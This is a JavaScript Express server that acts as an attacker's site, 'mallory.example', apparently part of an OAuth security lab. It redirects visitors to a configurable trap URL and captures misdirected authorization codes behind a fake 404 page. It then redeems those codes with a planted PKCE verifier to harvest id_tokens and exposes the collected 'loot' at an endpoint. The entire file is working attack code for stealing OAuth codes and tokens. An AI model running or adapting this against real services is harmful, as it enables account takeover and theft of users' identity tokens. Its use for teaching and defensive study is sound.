// mallory.example, and every name below it. It keeps what it is sent.
import express from 'express';
import { keep, refusal, serve } from './checks.js';

const QUIZ = Buffer.from('quiz:made-up-secret-of-quiz').toString('base64');
const app = express();
const loot = new Map();
let trap = 'about:blank';
let verifier = '';

app.put('/trap', express.json(), (req, res) => {
  const next = { trap: 'about:blank', verifier: '', ...req.body };
  if (typeof next.trap !== 'string' || typeof next.verifier !== 'string')
    throw refusal('trap and verifier are texts', undefined, 422);
  ({ trap, verifier } = next);
  loot.clear();
  res.json({ trap });
});

// A page that sends on whoever opens it. An invisible image or frame would do as well.
app.get('/', (req, res) => res.redirect(303, trap));

// Where codes end up that went to the wrong address.
app.get('/callback', (req, res) => {
  keep(loot, 'code', req.query.code);
  res.send('404, sorry\n');
});

// A quiz with “Continue with album.example”: a client like others.
app.get('/quiz', async (req, res) => {
  const response = await fetch('http://localhost:3001/token', {
    method: 'POST',
    headers: { Authorization: `Basic ${QUIZ}` },
    body: new URLSearchParams({
      grant_type: 'authorization_code', code: String(req.query.code),
      redirect_uri: 'https://mallory.example/quiz', code_verifier: verifier,
    }),
    signal: AbortSignal.timeout(5000),
  });
  keep(loot, 'id_token', (await response.json()).id_token);
  res.send('You are 80% otter\n');
});

app.get('/loot', (req, res) => res.json(Object.fromEntries(loot)));

serve(app, process.env.PORT ?? 3003);
